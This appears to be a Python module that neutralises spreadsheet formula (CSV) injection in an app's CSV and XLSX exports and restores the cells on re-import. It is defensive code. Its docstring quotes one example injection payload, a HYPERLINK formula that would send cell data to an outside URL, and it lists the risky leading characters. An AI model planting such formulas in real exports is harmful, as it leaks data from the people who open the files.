"""Text cells that a spreadsheet cannot run: every CSV and XLSX the app writes passes its cells through here.

A spreadsheet reads a cell starting with `=`, `+`, `-` or `@` (or a tab or carriage return before
one) as a formula, so a name typed as `=HYPERLINK("http://…"&A1,"x")` would run when a chair opens
the export. Following OWASP's advice on CSV injection, such a text gets a leading apostrophe, which
Excel and LibreOffice take as "this is text"; in XLSX the cell is also stored as a string, never a
formula. The importers remove exactly that apostrophe (`restore`), so that an export imports back as
it was: `restore(neutralise(text)) == text` for every text.
"""
from collections.abc import Iterable

RISKY_STARTS = frozenset("=+-@\t\r")
QUOTE = "'"


def neutralise(text: str) -> str:
    """`text` with a leading apostrophe when a spreadsheet would read it as a formula, or when it
    already starts with an apostrophe that `restore` would otherwise remove."""
    first, second = text[:1], text[1:2]
    if (first and first in RISKY_STARTS) or (first == QUOTE and second and (second in RISKY_STARTS or second == QUOTE)):
        return QUOTE + text
    return text


def restore(text: str) -> str:
    """The text `neutralise` was given: its added apostrophe removed, any other text unchanged."""
    second = text[1:2]
    if text[:1] == QUOTE and second and (second in RISKY_STARTS or second == QUOTE):
        return text[1:]
    return text


def cell_value(value):
    """A cell for a CSV row or an XLSX cell: text neutralised, numbers, dates and None as they are."""
    return neutralise(value) if isinstance(value, str) else value


def csv_row(values: Iterable) -> list:
    return [cell_value(value) for value in values]


def write_cell(sheet, row: int, column: int, value):
    """Set an openpyxl cell; a text is neutralised and stored as a string (openpyxl would otherwise turn
    any text starting with `=` into a formula). Returns the cell."""
    cell = sheet.cell(row=row, column=column)
    cell.value = cell_value(value)
    if isinstance(value, str):
        cell.data_type = "s"
    return cell


def append_row(sheet, values: Iterable) -> None:
    """`sheet.append(values)` with every text through `write_cell`'s rule."""
    values = list(values)
    sheet.append([cell_value(value) for value in values])
    row = sheet.max_row
    for column, value in enumerate(values, start=1):
        if isinstance(value, str):
            sheet.cell(row=row, column=column).data_type = "s"
